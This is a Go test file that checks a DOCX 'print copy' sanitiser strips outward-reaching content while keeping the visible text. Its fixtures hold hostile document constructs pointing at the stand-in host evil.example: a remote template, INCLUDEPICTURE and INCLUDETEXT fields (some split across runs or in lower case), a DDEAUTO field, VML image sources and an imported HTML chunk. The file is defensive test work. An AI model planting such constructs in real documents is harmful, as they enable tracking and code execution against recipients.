package edit_test

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"trinhky/internal/docx"
	"trinhky/internal/docx/docxtest"
	"trinhky/internal/docx/edit"
	"trinhky/internal/docx/opc"
	"trinhky/internal/docxgen"
)

func strip(t *testing.T, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, edit.PrintCopy(context.Background(), &out, bytes.NewReader(b), int64(len(b)), opc.Limits{}))
	return out.Bytes()
}

func TestPrintCopyLeavesNothingThatLeadsOut(t *testing.T) {
	t.Parallel()
	s := docxgen.LetterDraft()
	s.Template = "http://evil.example/t.dotm"
	s.Body = append(s.Body, docxgen.Block{Line: docxgen.Line{Parts: []docxgen.Part{{Text: "xem "}, {Text: "trang này", Link: "https://evil.example/"}}}})
	before := s.Bytes()
	require.Len(t, docxtest.Read(t, before).External, 2)

	after := strip(t, before)
	require.Empty(t, docxtest.Read(t, after).External)
	require.Equal(t, texts(docxtest.Read(t, before)), texts(docxtest.Read(t, after)), "the page must not change")
	for name, content := range docxtest.PartsOf(t, after) {
		require.NotContains(t, string(content), "evil.example", name)
	}
	require.Equal(t, after, strip(t, before), "the same input gives the same bytes")
}

func TestPrintCopyBlanksFieldsThatFetchAndKeepsTheirResult(t *testing.T) {
	t.Parallel()
	run := func(inner string) string { return "<w:r>" + inner + "</w:r>" }
	field := func(code ...string) string {
		out := run(`<w:fldChar w:fldCharType="begin"/>`)
		for _, c := range code {
			out += run("<w:instrText>" + c + "</w:instrText>")
		}
		return out + run(`<w:fldChar w:fldCharType="separate"/>`) + run("<w:t>kept</w:t>") + run(`<w:fldChar w:fldCharType="end"/>`)
	}
	cases := map[string]struct {
		body  string
		quiet bool // must be left alone
	}{
		"a fetched picture":       {body: field(` INCLUDEPICTURE "http://evil.example/a.png" `)},
		"split over runs":         {body: field(`INCL`, `UDETEXT &quot;http://evil`, `.example/x&quot;`)},
		"dynamic data exchange":   {body: field(`DDEAUTO c:\\evil.example`)},
		"in lower case":           {body: field(`includepicture "\\evil.example\x"`)},
		"a simple field":          {body: `<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example&quot; "><w:r><w:t>kept</w:t></w:r></w:fldSimple>`},
		"a VML source":            {body: run(`<w:t>kept</w:t><w:pict><v:shape style="width:1pt;height:1pt"><v:imagedata src="http://evil.example/p.png" o:href="http://evil.example/q.png"/></v:shape></w:pict>`)},
		"a field without end":     {body: run(`<w:t>kept</w:t><w:fldChar w:fldCharType="begin"/>`) + run(`<w:instrText>INCLUDEPICTURE "http://evil.example/a.png"</w:instrText>`)},
		"an end in a text box":    {body: run(`<w:t>kept</w:t><w:fldChar w:fldCharType="begin"/><w:pict><v:rect><v:textbox><w:txbxContent><w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:txbxContent></v:textbox></v:rect></w:pict>`) + run(`<w:instrText>INCLUDETEXT "http://evil.example/a"</w:instrText>`) + run(`<w:fldChar w:fldCharType="end"/>`)},
		"in a text box":           {body: run(`<w:t>kept</w:t><w:pict><v:rect><v:textbox><w:txbxContent><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "http://evil.example/a"</w:instrText></w:r></w:p></w:txbxContent></v:textbox></v:rect></w:pict>`)},
		"a page number":           {body: field(" PAGE ") + run("<w:t>evil.example</w:t>"), quiet: true},
		"a table of contents":     {body: field(` TOC \o "1-3" evil.example`), quiet: true},
		"code after its result":   {body: field("PAGE") + run("<w:instrText>evil.example</w:instrText>"), quiet: true},
		"a formula in plain text": {body: run("<w:t>INCLUDEPICTURE evil.example</w:t>"), quiet: true},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			before := docxtest.Document(t, "<w:p>"+c.body+"</w:p>")
			after := strip(t, before)
			require.Equal(t, texts(docxtest.Read(t, before)), texts(docxtest.Read(t, after)))
			require.Equal(t, c.quiet, strings.Contains(string(docxtest.PartOf(t, after, "word/document.xml")), "evil.example"))
		})
	}
}

func TestPrintCopyLooksIntoAHeaderWhateverItsType(t *testing.T) {
	t.Parallel()
	before := docxtest.Document(t, `<w:p/><w:sectPr><w:headerReference r:id="header1"/></w:sectPr>`, "word/header1.xml", `<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example/"/></w:p>`)
	types := strings.Replace(string(docxtest.PartOf(t, before, "[Content_Types].xml")), "wordprocessingml.header+xml", "other", 1)
	after := strip(t, docxtest.WithParts(t, before, map[string]string{"[Content_Types].xml": types}))
	require.NotContains(t, string(docxtest.PartOf(t, after, "word/header1.xml")), "evil.example")
}

func TestPrintCopyFindsRelationshipsHoweverTheirFolderIsWritten(t *testing.T) {
	t.Parallel()
	s := docxgen.LetterDraft()
	s.Template = "http://evil.example/t.dotm"
	parts := docxtest.PartsOf(t, s.Bytes())
	parts["Word/_RELS/settings.xml.Rels"] = parts["word/_rels/settings.xml.rels"]
	delete(parts, "word/_rels/settings.xml.rels")
	before := docxtest.Pack(t, parts)
	require.Len(t, docxtest.Read(t, before).External, 1)
	require.Empty(t, docxtest.Read(t, strip(t, before)).External)
}

func TestPrintCopyDropsImportedChunks(t *testing.T) {
	t.Parallel()
	before := docxtest.WithParts(t, docxtest.Document(t, `<w:altChunk r:id="rId9"/><w:p><w:r><w:t>x</w:t></w:r></w:p>`), map[string]string{
		"word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="chunk.html"/></Relationships>`,
		"word/chunk.html":              `<img src="http://evil.example/">`,
	})
	require.Equal(t, []docx.Unread{{Kind: docx.UnreadChunk, Target: "word/chunk.html"}}, docxtest.Read(t, before).Unread)
	require.Empty(t, docxtest.Read(t, strip(t, before)).Unread)
}
